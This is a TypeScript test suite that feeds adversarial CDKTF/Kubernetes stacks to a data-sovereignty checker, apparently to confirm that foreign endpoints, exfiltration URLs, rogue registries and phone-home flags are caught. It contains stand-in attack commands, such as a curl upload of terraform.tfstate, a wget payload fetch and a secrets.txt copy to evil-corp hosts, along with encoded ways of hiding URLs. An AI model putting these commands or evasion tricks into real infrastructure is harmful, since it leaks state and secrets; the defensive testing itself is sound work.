/**
 * Attacks through what a team composes in TypeScript: everything the scan must
 * read, values computed at apply time, everything Terraform runs, the bytes
 * written, data stores without backups and calls home.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ConfigMapV1 } from '@cdktf/provider-kubernetes/lib/config-map-v1';
import { DeploymentV1 } from '@cdktf/provider-kubernetes/lib/deployment-v1';
import { Manifest } from '@cdktf/provider-kubernetes/lib/manifest';
import { PersistentVolumeClaimV1 } from '@cdktf/provider-kubernetes/lib/persistent-volume-claim-v1';
import { StatefulSetV1 } from '@cdktf/provider-kubernetes/lib/stateful-set-v1';
import { Release } from '@cdktf/provider-helm/lib/release';
import {
  App, CloudBackend, DataTerraformRemoteStateS3, Fn, HttpBackend, Lazy, NamedCloudWorkspace, S3Backend, TerraformHclModule, TerraformLocal,
  TerraformProvider, TerraformStack, TerraformVariable, Testing,
} from 'cdktf';
import { addCustomSynthesis } from 'cdktf/lib/synthesize/synthesizer';
import { Construct } from 'constructs';
import { Jurisdiction } from '../../constructs/jurisdiction';
import { SovereignStack } from '../../constructs/proof';
import { Attack, AttackClass, Outcome, composed, inConfigMap, runAttacks } from './harness';
import { minimalStack, scope, synth } from '../util';

/** A container spec running one image. */
function container(image: string, env: { name: string; value: string }[] = []) {
  return { name: 'c', image, env, resources: { limits: { memory: '64Mi' } } };
}

/** A Deployment running `image`. */
function deploymentOf(image: string, env: { name: string; value: string }[] = []): (stack: SovereignStack) => void {
  return (stack) => new DeploymentV1(scope(stack), 'Deploy', {
    metadata: { name: 'd', namespace: 'team' },
    spec: { selector: { matchLabels: { app: 'd' } }, template: { metadata: { labels: { app: 'd' } }, spec: { container: [container(image, env)] } } },
  });
}

/** A Helm release of a mirrored chart with the given values. */
function release(values: Record<string, unknown>, extra: Record<string, unknown> = {}): (stack: SovereignStack) => void {
  return (stack) => new Release(scope(stack), 'Release', {
    name: 'r', namespace: 'team', chart: 'oci://registry.agency.example/desk/charts/app', version: '1.0.0', values: [JSON.stringify(values)], ...extra,
  });
}

const AGENCY = [{ pattern: '*.agency.example', countries: ['DE'], operator: 'DE' }] as const;
const b64 = (text: string) => Buffer.from(text).toString('base64');

/** A provider of any kind, written as Terraform would read it. */
class AnyProvider extends TerraformProvider {
  constructor(scope: Construct, id: string, type: string, source: string, private readonly attributes: Record<string, unknown>) {
    super(scope, id, { terraformResourceType: type, terraformProviderSource: source });
  }

  protected synthesizeAttributes(): Record<string, unknown> {
    return this.attributes;
  }
}

function ts(cls: AttackClass, name: string, add: (stack: SovereignStack) => void, expectNamed: string | RegExp, props = {}): Attack {
  return { class: cls, name, build: () => composed(add, props), expectNamed };
}

const scan: Attack[] = [
  inConfigMap('scan', 'ftp://files.evil-corp.com/in', 'files.evil-corp.com'),
  inConfigMap('scan', 'redis://:secret@cache.evil-corp.com:6379/0', 'cache.evil-corp.com'),
  inConfigMap('scan', 'amqps://mq.evil-corp.com/vhost', 'mq.evil-corp.com'),
  inConfigMap('scan', 'ldaps://ldap.evil-corp.com/dc=x', 'ldap.evil-corp.com'),
  inConfigMap('scan', 'git+ssh://git@github.com/evil/repo.git', 'github.com'),
  inConfigMap('scan', 'wss://push.evil-corp.com/socket', 'push.evil-corp.com'),
  inConfigMap('scan', 'sftp://drop.evil-corp.com:2222/x', 'drop.evil-corp.com'),
  inConfigMap('scan', 'syslog+tls://logs.evil-corp.com:6514', 'logs.evil-corp.com'),
  inConfigMap('scan', 'upload.evil-corp.com', 'upload.evil-corp.com', {}, 'x.y.z'),
  inConfigMap('scan', 'peer=198.51.100.23:5432', '198.51.100.23', {}, 'PEER'),
  inConfigMap('scan', 'smtp.evil-corp.com:587', 'smtp.evil-corp.com', {}, 'relayhost'),
  inConfigMap('scan', b64('https://exfil.evil-corp.com/collect'), 'exfil.evil-corp.com', {}, 'token'),
  inConfigMap('scan', b64(b64('https://exfil.evil-corp.com/twice')), 'exfil.evil-corp.com', {}, 'token'),
  inConfigMap('scan', 'https%3A%2F%2Fexfil.evil-corp.com%2Fp', 'exfil.evil-corp.com', {}, 'redirect'),
  inConfigMap('scan', '{"sink":"https:\\/\\/exfil.evil-corp.com\\/p"}', 'exfil.evil-corp.com', {}, 'config.json'),
  inConfigMap('scan', '{"sink":"https\\u003a\\u002f\\u002fexfil.evil-corp.com"}', 'exfil.evil-corp.com', {}, 'config.json'),
  inConfigMap('scan', 'sink:\n  # moved\n  url: https://exfil.evil-corp.com/yaml\n', 'exfil.evil-corp.com', {}, 'app.yaml'),
  inConfigMap('scan', '[output]\nhost = exfil.evil-corp.com\nport = 443\n', 'exfil.evil-corp.com', {}, 'fluent.ini'),
  ts('scan', 'image on an unknown registry', deploymentOf('registry.evil-corp.com/team/app:1.0'), 'registry.evil-corp.com'),
  ts('scan', 'image on a registry with a port', deploymentOf('registry.evil-corp.com:5000/app@sha256:' + 'a'.repeat(64)), 'registry.evil-corp.com'),
  ts('scan', 'image on Docker Hub (strict)', deploymentOf('evilcorp/app:1.0'), /evilcorp\/app|docker\.io/, { profile: 'strict' }),
  ts('scan', 'image on Quay (strict)', deploymentOf('quay.io/evil/app:1.0'), 'quay.io', { profile: 'strict' }),
  ts('scan', 'image in an env var', deploymentOf('registry.agency.example/desk/app:1', [{ name: 'SIDECAR_IMAGE', value: 'registry.evil-corp.com/side:2' }]), 'registry.evil-corp.com', { locations: AGENCY }),
  ts('scan', 'image split into registry/repository/tag', release({ image: { registry: 'registry.evil-corp.com', repository: 'team/app', tag: '1.0' } }), 'registry.evil-corp.com', { locations: AGENCY }),
  ts('scan', 'global imageRegistry', release({ global: { imageRegistry: 'mirror.evil-corp.com' } }), 'mirror.evil-corp.com', { locations: AGENCY }),
  ts('scan', 'operator image field', release({ config: { data: { POSTGRES_IMAGE_NAME: 'registry.evil-corp.com/postgresql:16' } } }), 'registry.evil-corp.com', { locations: AGENCY }),
  ts('scan', 'image through helm set', release({}, { set: [{ name: 'image.registry', value: 'registry.evil-corp.com' }] }), 'registry.evil-corp.com', { locations: AGENCY }),
  ts('scan', 'chart repository', (stack) => new Release(scope(stack), 'R', { name: 'r', chart: 'app', repository: 'https://charts.evil-corp.com', version: '1.0.0' }), 'charts.evil-corp.com'),
  ts('scan', 'OCI chart', (stack) => new Release(scope(stack), 'R', { name: 'r', chart: 'oci://charts.evil-corp.com/app', version: '1.0.0' }), 'charts.evil-corp.com'),
  ts('scan', 'CR image field', (stack) => new Manifest(scope(stack), 'M', {
    manifest: { apiVersion: 'example.com/v1', kind: 'Thing', metadata: { name: 't', namespace: 'team' }, spec: { imageName: 'registry.evil-corp.com/thing:1' } },
  }), 'registry.evil-corp.com'),
];

const applyTime: Attack[] = [
  ts('apply-time', 'a string variable', (stack) => {
    const v = new TerraformVariable(stack, 'sink', { type: 'string', default: 'https://fsn1.your-objectstorage.com' });
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: v.stringValue } });
  }, 'var.sink'),
  ts('apply-time', 'a URL assembled around a variable', (stack) => {
    const v = new TerraformVariable(stack, 'host', { type: 'string' });
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: `https://${v.stringValue}/push` } });
  }, 'var.host'),
  ts('apply-time', 'a data source attribute', (stack) => {
    stack.addOverride('data.http.endpoint', { url: 'https://fsn1.your-objectstorage.com/where' });
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: '${data.http.endpoint.response_body}' } });
  }, 'data.http.endpoint'),
  ts('apply-time', 'a module output', (stack) => {
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: '${module.sink.url}' } });
  }, 'module.sink'),
  ts('apply-time', 'a local value', (stack) => {
    const l = new TerraformLocal(stack, 'sink', 'https://exfil.evil-corp.com');
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: l.asString } });
  }, /local\.sink|exfil\.evil-corp\.com/),
  ts('apply-time', 'Fn.join of the parts of a URL', (stack) => {
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: Fn.join('', ['https://', 'exfil', '.evil-corp', '.com']) } });
  }, /join|exfil/),
  ts('apply-time', 'Fn.format of a host', (stack) => {
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: Fn.format('https://%s/x', ['exfil.evil-corp.com']) } });
  }, /format|exfil\.evil-corp\.com/),
  ts('apply-time', 'Fn.base64decode of a URL', (stack) => {
    new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: Fn.base64decode(b64('https://exfil.evil-corp.com')) } });
  }, /base64decode|exfil\.evil-corp\.com/),
  ts('apply-time', 'a variable in helm values', release({ sink: '${var.sink}' }), 'var.sink', { locations: AGENCY }),
  ts('apply-time', 'a variable as a chart repository', (stack) => {
    const v = new TerraformVariable(stack, 'repo', { type: 'string' });
    new Release(scope(stack), 'R', { name: 'r', chart: 'app', repository: v.stringValue, version: '1.0.0' });
  }, 'var.repo'),
];

const terraform: Attack[] = [
  ts('terraform', 'a module from git', (stack) => new TerraformHclModule(stack, 'Mod', { source: 'git::https://github.com/evil/tf-mod.git' }), /github\.com\/evil|Mod/),
  ts('terraform', 'a module from a local folder', (stack) => new TerraformHclModule(stack, 'Local', { source: './modules/sink', skipAssetCreationFromLocalModules: true }), /modules\/sink|Local/),
  ts('terraform', 'a registry module', (stack) => new TerraformHclModule(stack, 'Reg', { source: 'terraform-aws-modules/s3-bucket/aws', version: '4.0.0' }), /s3-bucket|Reg/),
  ts('terraform', 'an AWS provider in us-east-1', (stack) => new AnyProvider(stack, 'Aws', 'aws', 'hashicorp/aws', { region: 'us-east-1' }), 'us-east-1'),
  ts('terraform', 'an AWS provider in Frankfurt (US operator)', (stack) => new AnyProvider(stack, 'Aws', 'aws', 'hashicorp/aws', { region: 'eu-central-1' }), 'eu-central-1'),
  ts('terraform', 'a Google provider', (stack) => new AnyProvider(stack, 'Google', 'google', 'hashicorp/google', { region: 'europe-west3', project: 'p' }), /google|europe-west3/),
  ts('terraform', 'an unknown provider', (stack) => new AnyProvider(stack, 'Evil', 'evilcloud', 'evil/evilcloud', { endpoint: 'https://api.evilcloud.example' }), /evilcloud/),
  ts('terraform', 'a provider endpoint override', (stack) => new AnyProvider(stack, 'Aws', 'aws', 'hashicorp/aws', { region: 'eu-central-1', endpoints: [{ s3: 'https://s3.evil-corp.com' }] }), /s3\.evil-corp\.com|eu-central-1/),
  {
    class: 'terraform', name: 'providers from the registry without a mirror',
    build: () => {
      const stack = minimalStack({ report: false, profile: 'strict' });
      (stack as unknown as { providerMirror?: string }).providerMirror = undefined;
      return stack;
    },
    expectNamed: 'registry.terraform.io',
  },
  ts('terraform', 'a local-exec provisioner', (stack) => new ConfigMapV1(scope(stack), 'C', {
    metadata: { name: 'c' }, data: {}, provisioners: [{ type: 'local-exec', command: 'curl -T terraform.tfstate https://exfil.evil-corp.com/up' }],
  }), 'exfil.evil-corp.com'),
  ts('terraform', 'a local-exec provisioner without a host', (stack) => new ConfigMapV1(scope(stack), 'C', {
    metadata: { name: 'c' }, data: {}, provisioners: [{ type: 'local-exec', command: './sync.sh' }],
  }), /sync\.sh|local-exec/),
  ts('terraform', 'a remote-exec provisioner', (stack) => new ConfigMapV1(scope(stack), 'C', {
    metadata: { name: 'c' }, data: {},
    provisioners: [{ type: 'remote-exec', inline: ['wget http://payload.evil-corp.com/x'], connection: { type: 'ssh', host: '203.0.113.9', user: 'root' } }],
  }), /203\.0\.113\.9|payload\.evil-corp\.com/),
  ts('terraform', 'a file provisioner', (stack) => new ConfigMapV1(scope(stack), 'C', {
    metadata: { name: 'c' }, data: {},
    provisioners: [{ type: 'file', source: 'secrets.txt', destination: '/tmp/x', connection: { type: 'ssh', host: 'box.evil-corp.com', user: 'root' } }],
  }), 'box.evil-corp.com'),
  ts('terraform', 'an external data source', (stack) => stack.addOverride('data.external.probe', { program: ['python3', 'probe.py'] }), /external|probe\.py/),
  ts('terraform', 'an http data source', (stack) => stack.addOverride('data.http.probe', { url: 'https://probe.evil-corp.com/' }), 'probe.evil-corp.com'),
  ts('terraform', 'a helm postrender binary', release({}, { postrender: { binaryPath: './kustomize-wrapper', args: ['--push'] } }), /kustomize-wrapper|postrender/, { locations: AGENCY }),
  ts('terraform', 'an S3 backend in us-east-1', (stack) => new S3Backend(stack, { bucket: 'state', key: 'k', region: 'us-east-1' }), /us-east-1/),
  ts('terraform', 'an HTTP backend', (stack) => new HttpBackend(stack, { address: 'https://state.evil-corp.com/tf' }), 'state.evil-corp.com'),
  ts('terraform', 'HCP Terraform', (stack) => new CloudBackend(stack, { organization: 'o', workspaces: new NamedCloudWorkspace('w') }), 'app.terraform.io'),
  ts('terraform', 'a remote state read from S3', (stack) => new DataTerraformRemoteStateS3(stack, 'Remote', { bucket: 'other', key: 'k', region: 'us-west-2' }), 'us-west-2'),
  ts('terraform', 'a null_resource with a trigger host', (stack) => stack.addOverride('resource.null_resource.x', { triggers: { sink: 'https://exfil.evil-corp.com' } }), 'exfil.evil-corp.com'),
];

/** A synthesis of a plain app, read back from the stack's own proof. */
function proofOf(stack: SovereignStack): Outcome {
  const result = stack.prove();
  return {
    errors: result.findings.filter((f) => f.severity === 'error').map((f) => `${f.ruleId} ${f.problem} ${f.placement.target}`),
    warnings: [],
  };
}

const bytes: Attack[] = [
  ...['main.tf', 'extra.tf.json', 'backend_override.tf', 'zz.tf.json', 'terraform.tfvars.json'].map((file) => ts('bytes', `a ${file} beside cdk.tf.json`, (stack) => {
    addCustomSynthesis(scope(stack, 'Sneaky'), {
      onSynthesize: (session) => writeFileSync(join(session.outdir, 'stacks', stack.node.id, file), file.endsWith('.json') ? '{"variable":{"x":{"default":"https://exfil.evil-corp.com"}}}' : 'output "x" { value = "y" }\n'),
    });
  }, file)),
  {
    class: 'bytes', name: 'HCL output',
    build: () => {
      const app = new App({ outdir: Testing.app().outdir, hclOutput: true });
      const stack = new SovereignStack(app, 'hcl', { jurisdiction: Jurisdiction.of('DE'), clusterLocation: 'stackit/eu01', report: false, terminal: false });
      app.synth();
      return proofOf(stack);
    },
    expectNamed: 'cdk.tf',
  },
  {
    class: 'bytes', name: 'skipValidation with a foreign endpoint',
    build: () => {
      const app = new App({ outdir: Testing.app().outdir, skipValidation: true });
      const stack = new SovereignStack(app, 'skip', { jurisdiction: Jurisdiction.of('DE'), clusterLocation: 'stackit/eu01', report: false, terminal: false });
      new ConfigMapV1(stack, 'C', { metadata: { name: 'c' }, data: { url: 'https://exfil.evil-corp.com' } });
      app.synth();
      return proofOf(stack);
    },
    expectNamed: 'exfil.evil-corp.com',
  },
  ts('bytes', 'a plain TerraformStack in the same app', (stack) => {
    const side = new TerraformStack(stack.node.scope as App, 'exfil-side');
    new ConfigMapV1(side, 'C', { metadata: { name: 'c' }, data: { url: 'https://exfil.evil-corp.com' } });
  }, 'exfil-side'),
  ts('bytes', 'a resource override added after construction', (stack) => {
    const cm = new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { url: 'https://fsn1.your-objectstorage.com' } });
    cm.addOverride('data.url', 'https://exfil.evil-corp.com');
  }, 'exfil.evil-corp.com'),
];

const backups: Attack[] = [
  ts('backups', 'a raw PVC', (stack) => new PersistentVolumeClaimV1(scope(stack), 'Pvc', {
    metadata: { name: 'ledger-data', namespace: 'team' }, spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '10Gi' } } },
  }), 'ledger-data'),
  ts('backups', 'a StatefulSet claim', (stack) => new StatefulSetV1(scope(stack), 'Sts', {
    metadata: { name: 'ledger', namespace: 'team' },
    spec: {
      serviceName: 'ledger', selector: { matchLabels: { app: 'ledger' } },
      template: { metadata: { labels: { app: 'ledger' } }, spec: { container: [container('registry.agency.example/desk/ledger:1')] } },
      volumeClaimTemplate: [{ metadata: { name: 'journal' }, spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '5Gi' } } } }],
    },
  }), /ledger|journal/, { locations: AGENCY }),
  ts('backups', 'chart values with persistence on', release({ persistence: { enabled: true, size: '8Gi' } }), /release r|Release|persistence/, { locations: AGENCY }),
  ts('backups', 'chart values with primary.persistence on', release({ primary: { persistence: { enabled: true } } }), /release r|Release|persistence/, { locations: AGENCY }),
  ts('backups', 'a PVC manifest', (stack) => new Manifest(scope(stack), 'M', {
    manifest: { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'raw-claim', namespace: 'team' }, spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } },
  }), 'raw-claim'),
  ...[
    ['postgresql.cnpg.io/v1', 'Cluster', 'ledger-pg'],
    ['acid.zalan.do/v1', 'postgresql', 'ledger-zalando'],
    ['psmdb.percona.com/v1', 'PerconaServerMongoDB', 'ledger-mongo'],
    ['k8s.mariadb.com/v1alpha1', 'MariaDB', 'ledger-maria'],
    ['databases.spotahome.com/v1', 'RedisFailover', 'ledger-redis'],
  ].map(([apiVersion, kind, name]) => ts('backups', `a ${kind} CR`, (stack) => new Manifest(scope(stack), 'Db', {
    manifest: { apiVersion, kind, metadata: { name, namespace: 'team' }, spec: { instances: 1 } },
  }), name)),
  ...[
    [{ provider: 'aws', objectStorage: { bucket: 'b' }, config: { region: 'us-east-1' } }, 's3.us-east-1.amazonaws.com'],
    [{ provider: 'velero.io/aws', objectStorage: { bucket: 'b' } }, 's3.us-east-1.amazonaws.com'],
    [{ provider: 'aws', objectStorage: { bucket: 'b' }, config: { region: 'eu-central-1' } }, 's3.eu-central-1.amazonaws.com'],
    [{ provider: 'aws', objectStorage: { bucket: 'b' }, config: { region: 'x', s3Url: 'https://minio.evil-corp.com' } }, 'minio.evil-corp.com'],
    [{ provider: 'gcp', objectStorage: { bucket: 'b' } }, 'storage.googleapis.com'],
    [{ provider: 'azure', objectStorage: { bucket: 'b' }, config: { storageAccount: 'deskbackups' } }, 'deskbackups.blob.core.windows.net'],
    [{ provider: 'evil/plugin', objectStorage: { bucket: 'b' } }, 'evil/plugin'],
  ].map(([spec, named]) => ts('backups', `a Velero BackupStorageLocation ${JSON.stringify(spec)}`, (stack) => new Manifest(scope(stack), 'Bsl', {
    manifest: { apiVersion: 'velero.io/v1', kind: 'BackupStorageLocation', metadata: { name: 'offsite', namespace: 'velero' }, spec },
  }), named as string)),
  ts('backups', 'a database CR in YAML text in chart values', release({ extraObjects: ['apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata:\n  name: hidden-pg\nspec:\n  instances: 1\n'] }), 'hidden-pg', { locations: AGENCY }),
];

const phoneHome: Attack[] = [
  ...([
    ['appstoreenabled', 'true'], ['NC_appstoreenabled', 'false'], ['updatechecker', '1'], ['has_internet_connection', 'yes'],
    ['report_stats', 'true'], ['fetch_update_check', '24'], ['ENABLE_UPDATE_CHECK', '1'], ['integrations_ui_url', 'https://scalar.vector.im/'],
  ] as const).map(([key, value]) => inConfigMap('phone-home', value, key.replace(/^NC_/, ''), {}, key)),
  ts('phone-home', 'report_stats in YAML text', (stack) => new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { 'homeserver.yaml': 'server_name: x\nreport_stats: True\n' } }), 'report_stats'),
  ts('phone-home', 'appstoreenabled in config.php', (stack) => new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: { 'x.config.php': "<?php $CONFIG = array('appstoreenabled' => 'false');" } }), 'appstoreenabled'),
  ts('phone-home', 'a coolwsd flag', release({ collabora: { extra_params: '--o:welcome.enable=true --o:ssl.enable=false' } }), 'welcome.enable', { locations: AGENCY }),
  ts('phone-home', 'trusted_key_servers naming matrix.org', release({ synapse: { additional: { x: { config: 'trusted_key_servers:\n  - server_name: matrix.org\n' } } } }), /trusted_key_servers|matrix\.org/, { locations: AGENCY }),
  ts('phone-home', 'report_stats through helm set', release({}, { set: [{ name: 'synapse.report_stats', value: 'true' }] }), 'report_stats', { locations: AGENCY }),
  ts('phone-home', 'an env var from a Secret', deploymentOf('registry.agency.example/desk/app:1', [{ name: 'NC_updatechecker', value: '${var.flag}' }]), 'updatechecker', { locations: AGENCY }),
];

/** Services named by reference in what a team writes: an issuer defined nowhere, a backup location in chart values. */
const references: Attack[] = [
  ts('references', 'an Ingress naming a ClusterIssuer the stack does not define', (stack) => new Manifest(scope(stack), 'Ingress', { manifest: {
    apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'i', namespace: 'team', annotations: { 'cert-manager.io/cluster-issuer': 'public-acme' } },
    spec: { rules: [{ host: 'id.team.example' }] },
  } }), 'clusterissuer:public-acme'),
  ts('references', 'a Certificate whose issuerRef names an issuer the stack does not define', (stack) => new Manifest(scope(stack), 'Certificate', { manifest: {
    apiVersion: 'cert-manager.io/v1', kind: 'Certificate', metadata: { name: 'c', namespace: 'team' },
    spec: { secretName: 'c-tls', dnsNames: ['id.team.example'], issuerRef: { kind: 'ClusterIssuer', name: 'letsencrypt-prod' } },
  } }), 'clusterissuer:letsencrypt-prod'),
  ts('references', 'velero chart values with an AWS backup location and no s3Url', release({
    configuration: { backupStorageLocation: [{ name: 'default', provider: 'aws', bucket: 'backups', config: { region: 'us-east-1' } }] },
  }), 's3.us-east-1.amazonaws.com'),
];

runAttacks([...scan, ...applyTime, ...terraform, ...bytes, ...backups, ...phoneHome, ...references]);

// A value that answers differently when it is resolved again (a Lazy) cannot put anything unproven into cdk.tf.json:
// the stack writes the text the proof judged, and nothing asks the value again.
describe('attack class bytes: a value that changes after the proof is never asked again', () => {
  it.each([
    ['a Lazy annotation that changes after the proof', (stack: SovereignStack) => {
      let calls = 0;
      const host = Lazy.stringValue({ produce: () => (calls++ === 0 ? 'logs.agency.example' : 'logs.evil-corp.com') });
      new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c', annotations: { sink: host } }, data: {} });
    }, 'logs.agency.example'],
    ['a Lazy map that grows after the proof', (stack: SovereignStack) => {
      let calls = 0;
      const data = Lazy.anyValue({ produce: () => (calls++ === 0 ? { url: 'https://fsn1.your-objectstorage.com' } : { url: 'https://fsn1.your-objectstorage.com', extra: 'https://exfil.evil-corp.com' }) });
      new ConfigMapV1(scope(stack), 'C', { metadata: { name: 'c' }, data: data as unknown as Record<string, string> });
    }, 'https://fsn1.your-objectstorage.com'],
  ] as const)('writes what was proven: %s', (_name, add, proven) => {
    const out = synth(composed(add, { locations: AGENCY }));
    expect(out.errors).toEqual([]);
    expect(out.text).toContain(proven);
    expect(out.text).not.toContain('evil-corp');
  });
});
